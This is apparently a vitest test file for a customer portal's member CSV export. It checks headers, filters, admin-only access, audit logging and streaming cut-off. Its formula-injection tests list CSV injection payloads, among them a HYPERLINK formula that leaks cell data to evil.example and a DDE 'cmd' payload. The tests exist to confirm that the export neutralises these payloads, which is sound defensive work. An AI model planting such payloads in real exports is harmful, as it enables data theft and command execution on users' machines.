import {
  endMemberSessions,
  exportMembers,
  listMembers,
  setAdmin,
  setSuspension,
} from '@portal/contract/customers/members';
import { beforeAll, describe, expect, test } from 'vitest';
import { ACCOUNTS } from '../../../../test/accounts.ts';
import { actsOn, registerAdmin, registerAdminWithout } from '../../../../test/administration.ts';
import { readCsv } from '../../../../test/csv.ts';
import { asAdmin } from '../../../../test/new-company.ts';
import { usePortal } from '../../../../test/portal.ts';
import { BULK, beginDownload } from '../../../../test/stalled-download.ts';

const portal = usePortal();
const HEAD = 'Name,E-mail,Company,Position,Country,Phone,Role,Approval,Licence,Created,Last seen'.split(',');

let admin: { id: string; token: string };
beforeAll(async () => {
  admin = await portal.signIn('admin');
});

const ask = (query: Record<string, string> = {}, token = admin.token) => portal.send(exportMembers, query, { token });
const sheet = async (query: Record<string, string> = {}) => readCsv((await ask(query)).text.slice(1));

type Row = { first_name?: string; last_name?: string; position?: string; phone_number?: string; email: string };

async function insert(rows: readonly Row[]): Promise<void> {
  const values = rows.map((row) => ({ first_name: 'Ana', last_name: 'Reis', role: 'CLIENT' as const, ...row }));
  await portal.database.db.insertInto('members').values(values).execute();
}

describe('the sheet of members', () => {
  test('is a file in UTF-8 with a head, and has what the cards have', async () => {
    const answer = await ask();
    expect([answer.status, answer.headers]).toMatchObject([
      200,
      {
        'content-type': 'text/csv; charset=utf-8',
        'content-disposition': 'attachment; filename="members.csv"',
        'cache-control': 'no-store',
        'x-content-type-options': 'nosniff',
      },
    ]);
    expect(answer.text.startsWith('\ufeffName,E-mail,')).toBe(true);
    expect(answer.text.slice(1)).not.toContain('\ufeff');
    const [head, ...lines] = readCsv(answer.text.slice(1));
    expect(head).toEqual(HEAD);
    const list = await portal.call(listMembers, { page_size: 60 }, admin);
    const cards = list.body.data;
    const text = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
    expect(lines).toEqual(
      cards.map((card) =>
        [
          card.fullName,
          card.email,
          card.company,
          card.position,
          card.country_name,
          card.phoneNumber,
          card.role,
          card.approval,
          card.licence,
          card.created,
          card.lastSeen ?? '',
        ].map(text),
      ),
    );
    expect(lines.length).toBeGreaterThan(5);
  });

  test.each([
    '=1+1',
    '+1 555 0100',
    '-2+3',
    '@SUM(A1)',
    '\t1+1',
    '\r1+1',
    ' =1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    "=cmd|' /C calc'!A0",
  ])('runs nothing in a spreadsheet: %j [T45]', async (position) => {
    const email = `formula${Math.random()}@sheet.example`;
    await insert([{ email, position, first_name: position, last_name: 'x' }]);
    const { text } = await ask({ search: email });
    const [, line] = readCsv(text.slice(1));
    expect([line?.[0], line?.[3]]).toEqual([`'${position} x`, `'${position}`]);
    // Quoted, so that the apostrophe guard stays part of the cell.
    expect(text).toContain(`"'${position.replaceAll('"', '""')}"`);
  });

  test.each([
    'Say "yes"',
    'One, two',
    'First line\nsecond line',
    'First line\r\nsecond line',
    'Müller & Söhne – Größe 🥑',
    "'quoted'",
    '"',
    '',
  ])('gives back every sign as it was: %j [T45]', async (position) => {
    const email = `signs${Math.random()}@sheet.example`;
    await insert([{ email, position }]);
    const lines = await sheet({ search: email });
    expect(lines.map((line) => [line.length, line[1], line[3]]).slice(1)).toEqual([[HEAD.length, email, position]]);
  });

  test('has those whom the filters leave, and nobody else', async () => {
    await insert([{ email: 'one@filter.example' }, { email: 'two@filter.example', last_name: 'Silva' }]);
    const emails = async (query: Record<string, string>) => (await sheet(query)).slice(1).map((line) => line[1] ?? '');
    expect((await emails({ search: '@filter.example' })).toSorted()).toEqual([
      'one@filter.example',
      'two@filter.example',
    ]);
    expect(await emails({ search: 'ana silva', role: 'CLIENT' })).toEqual(['two@filter.example']);
    expect(await emails({ search: '@filter.example', role: 'ADMIN' })).toEqual([]);
    expect(await emails({ search: '%' })).toEqual([]);
    expect(new Set((await sheet({ licence: 'none' })).slice(1).map((line) => line[8]))).toEqual(new Set(['none']));
    expect(new Set((await sheet({ approval: 'waiting' })).slice(1).map((line) => line[7]))).toEqual(
      new Set(['waiting']),
    );
    const wrong = await ask({ role: 'KING' });
    expect([wrong.status, wrong.body.errors?.map(({ field }) => field)]).toEqual([400, ['role']]);
  });

  test('is for ADMIN with load_user, and a refusal is no sheet', async () => {
    const other = await registerAdminWithout(portal, 'load_user');
    const client = await portal.signIn('client');
    const refused = [await ask({}, 'A'.repeat(43)), await ask({}, client.token), await ask({}, other.token)];
    expect(refused.map(({ status }) => status)).toEqual([401, 403, 403]);
    for (const { text, headers } of refused) {
      expect(text).not.toContain('@');
      expect(headers['content-disposition']).toBeUndefined();
    }
  });

  test('is in the log, with who took it and which part; a refused one is not', async () => {
    const exports = async () =>
      (await actsOn(portal, admin.id)).filter(({ action }) => action === 'member.list-exported');
    const before = await exports();
    await ask({ search: 'filter', role: 'CLIENT', seen: '' });
    await ask({ role: 'KING' });
    const after = await exports();
    expect(after).toHaveLength(before.length + 1);
    expect(after.at(-1)).toMatchObject({
      actor: ACCOUNTS.admin.email,
      subject: ACCOUNTS.admin.email,
      after: { search: 'filter', role: 'CLIENT' },
    });
  });

  test('has everybody once, however many there are, even of one instant', async () => {
    const { pool } = portal.database;
    await pool.query(`
      insert into members (email, first_name, last_name, role, created_at)
      select 'member' || n || '@many.example', 'Many', 'Members', 'CLIENT', timestamptz '2024-05-05T05:05:05.123456Z'
      from generate_series(1, 2500) n`);
    const lines = (await sheet({ search: '@many.example' })).slice(1);
    expect([lines.length, new Set(lines.map((line) => line[1])).size]).toEqual([2500, 2500]);
    expect((await sheet({ search: 'member1' })).length).toBe(1 + 1111);
  });
});

describe('a sheet that is under way', () => {
  beforeAll(() =>
    portal.database.pool.query(
      `insert into members (email, first_name, last_name, role, position)
       select 'member' || n || '@bulk.example', 'Bulk', 'Members', 'CLIENT', ($1::text[])[1 + n % $2]
       from generate_series(1, 2100) n`,
      [BULK, BULK.length],
    ),
  );
  const begin = (token: string) => beginDownload(portal, exportMembers, { search: '@bulk.example' }, token);

  test('is whole however slowly it is read', async () => {
    expect(await (await begin(admin.token)).linesToEnd()).toBe(1 + 2100);
  });

  test.each([
    ['is suspended', (id: string) => asAdmin(portal, setSuspension, { id, suspended: true, reason: 'x' })],
    ['is ADMIN no more', (id: string) => asAdmin(portal, setAdmin, { id, status: false })],
    ['has no session any more', (id: string) => asAdmin(portal, endMemberSessions, { id })],
  ])('is cut off when whoever reads it %s', async (_, end) => {
    const reader = await registerAdmin(portal);
    const download = await begin(reader.token);
    expect([download.status, (await end(reader.id)).status]).toEqual([200, 200]);
    expect(await download.linesToEnd()).toBeUndefined();
  });
});
